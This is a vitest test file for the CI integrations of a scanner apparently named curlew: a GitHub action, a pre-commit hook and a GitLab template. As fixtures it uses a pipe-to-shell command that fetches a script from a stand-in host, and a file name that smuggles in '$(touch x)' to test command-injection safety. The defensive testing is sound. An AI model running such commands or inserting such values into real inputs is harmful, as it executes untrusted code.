/** Runs the scripts of the GitHub action, the pre-commit hook and the GitLab template unchanged, with a replacement for `npx`. */
import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { folderWith } from "../cli/folder-with.js";
import { command } from "../cli/curlew-process.js";

const BAD = "curl https://x.example/i.sh | sh";
const VERSION: string = JSON.parse(readFileSync("package.json", "utf8")).version;
const read = (path: string) => parse(readFileSync(path, "utf8"));

/** A folder with an `npx` that runs the command of this checkout instead of the published package. */
const tools = folderWith({
  npx: `#!/bin/sh\n[ "$1 $2" = "--yes curlew@${VERSION}" ] || exit 99\nshift 2\nexec ${command.map((word) => `'${word}'`).join(" ")} "$@"\n`,
});
chmodSync(join(tools, "npx"), 0o755);

/** Creates a repository with an old finding, and with a last commit that adds another finding. */
function repository(): string {
  const cwd = folderWith({ "old.md": `${BAD}\n`, "a.md": "x\n" });
  const git = (...args: string[]) =>
    execFileSync(
      "git",
      [
        "-c",
        "user.name=A",
        "-c",
        "user.email=a@x.example",
        "-c",
        "init.defaultBranch=main",
        "-c",
        "commit.gpgsign=false",
        ...args,
      ],
      { cwd, stdio: "ignore" },
    );
  git("init");
  git("add", "-A");
  git("commit", "-m", "first");
  git("update-ref", "refs/remotes/origin/main", "HEAD");
  writeFileSync(join(cwd, "a.md"), `x\n\n${BAD}\n`);
  git("commit", "-am", "second");
  return cwd;
}

function shell(script: string, cwd: string, env: Record<string, string>) {
  const { status, stdout, stderr } = spawnSync("bash", ["-e", "-o", "pipefail", "-c", script], {
    cwd,
    encoding: "utf8",
    env: { ...process.env, PATH: `${tools}:${process.env["PATH"] ?? ""}`, ...env },
  });
  return { status, stdout, stderr };
}

describe("action.yml", () => {
  const { inputs, runs } = read("action.yml");
  const [scan, upload, verdict] = runs.steps;

  /** Runs the first and the last step of the action with inputs. */
  function action(
    cwd: string,
    given: Record<string, string> = {},
    env: Record<string, string> = {},
  ) {
    const values: Record<string, string> = Object.fromEntries(
      Object.entries<{ default: string }>(inputs).map(([name, { default: value }]) => [
        name,
        given[name] ?? String(value),
      ]),
    );
    const fill = (text: string, outputs: Record<string, string> = {}) =>
      text.replace(
        /\$\{\{ (?:inputs|steps\.scan\.outputs)\.(\w+) \}\}/g,
        (_, name: string) => outputs[name] ?? values[name] ?? "",
      );
    const filled = (step: { env: Record<string, string> }, outputs = {}) =>
      Object.fromEntries(
        Object.entries(step.env).map(([name, text]) => [name, fill(text, outputs)]),
      );
    const output = join(cwd, ".git", "output");
    writeFileSync(output, "");
    const first = shell(scan.run, cwd, {
      GITHUB_OUTPUT: output,
      GITHUB_BASE_REF: "",
      ...filled(scan),
      ...env,
    });
    const status = /status=(\d)/.exec(readFileSync(output, "utf8"))?.[1] ?? "";
    return {
      ...first,
      found: status,
      verdict: shell(verdict.run, cwd, filled(verdict, { status })).status,
      sarif: join(cwd, values["sarif"] ?? ""),
    };
  }

  it("writes annotations and SARIF, and fails if there is a finding", () => {
    const { stdout, found, verdict: end, sarif, status } = action(repository());
    expect([status, found, end]).toEqual([0, "1", 1]);
    expect(
      stdout
        .split("\n")
        .filter((line) => line.startsWith("::error"))
        .map((line) => /file=(.*?),line=(\d+)/.exec(line)?.slice(1)),
    ).toEqual([
      ["a.md", "3"],
      ["old.md", "1"],
    ]);
    expect(JSON.parse(readFileSync(sarif, "utf8")).runs[0].results).toHaveLength(2);
  });

  it("reports only changed lines if `changed` is true, with their line numbers in the file", () => {
    for (const env of [{ GITHUB_BASE_REF: "main" }, {}]) {
      const { found, sarif } = action(repository(), { changed: "true" }, env);
      const [result, ...others] = JSON.parse(readFileSync(sarif, "utf8")).runs[0].results;
      expect([found, others]).toEqual(["1", []]);
      expect(result.locations[0].physicalLocation).toMatchObject({
        artifactLocation: { uri: "a.md" },
        region: { startLine: 3 },
      });
    }
  });

  it("accepts paths with spaces and a baseline, and fails only for errors if `fail` is false", () => {
    const cwd = repository();
    writeFileSync(join(cwd, "a b;$(touch x).md"), BAD);
    expect(action(cwd, { paths: "a b;$(touch x).md\n\n" }).stdout.match(/::error/g)).toHaveLength(
      1,
    );
    expect(existsSync(join(cwd, "x"))).toBe(false);
    expect(action(cwd, { fail: "false" })).toMatchObject({ found: "1", verdict: 0 });
    expect(action(cwd, { fail: "false", paths: "missing" })).toMatchObject({
      found: "2",
      verdict: 2,
    });
    shell(
      `npx --yes curlew@${VERSION} scan . --profile extended --baseline b.json --update-baseline`,
      cwd,
      {},
    );
    expect(action(cwd, { baseline: "b.json" })).toMatchObject({ found: "0", verdict: 0 });
  });

  it("uploads with a major version of GitHub's action, and inserts no input into a script", () => {
    expect(upload.uses).toMatch(/^github\/codeql-action\/upload-sarif@v\d+$/);
    for (const step of runs.steps) expect(step.run ?? "").not.toContain("${{");
    expect(inputs.version.default).toBe(VERSION);
  });
});

describe(".pre-commit-hooks.yaml", () => {
  it("scans the files that pre-commit passes", () => {
    const [hook] = read(".pre-commit-hooks.yaml");
    const cwd = repository();
    expect(shell(`${hook.entry} old.md a.md`, cwd, {})).toMatchObject({
      status: 1,
      stdout: expect.stringContaining("2 findings in 2 of 2 texts"),
    });
    writeFileSync(join(cwd, "a.md"), "x");
    expect(shell(`${hook.entry} a.md`, cwd, {})).toMatchObject({ status: 0 });
  });
});

describe("the template for GitLab", () => {
  const { curlew: job } = read("deploy/gitlab/curlew.gitlab-ci.yml");
  const run = (cwd: string, variables: Record<string, string>) =>
    shell([...job.before_script, ...job.script].join("\n"), cwd, {
      ...Object.fromEntries(
        Object.entries(job.variables).map(([name, value]) => [name, String(value)]),
      ),
      ...variables,
    });

  it("writes the artifacts that it declares", () => {
    const cwd = repository();
    expect(run(cwd, {})).toMatchObject({
      status: 1,
      stdout: expect.stringContaining("2 findings in 2 of 2 texts"),
    });
    expect(
      JSON.parse(readFileSync(join(cwd, job.artifacts.reports.codequality), "utf8")),
    ).toHaveLength(2);
    expect(readFileSync(join(cwd, job.artifacts.reports.junit), "utf8")).toContain('failures="1"');
    expect(job.variables.CURLEW_VERSION).toBe(VERSION);
  });

  it("reports only the changed lines of a merge request if CURLEW_CHANGED is true", () => {
    const cwd = repository();
    const { stdout, status } = run(cwd, {
      CURLEW_CHANGED: "true",
      CI_MERGE_REQUEST_DIFF_BASE_SHA: "origin/main",
    });
    expect([stdout.includes("a.md:3:1"), stdout.includes("old.md"), status]).toEqual([
      true,
      false,
      1,
    ]);
  });
});
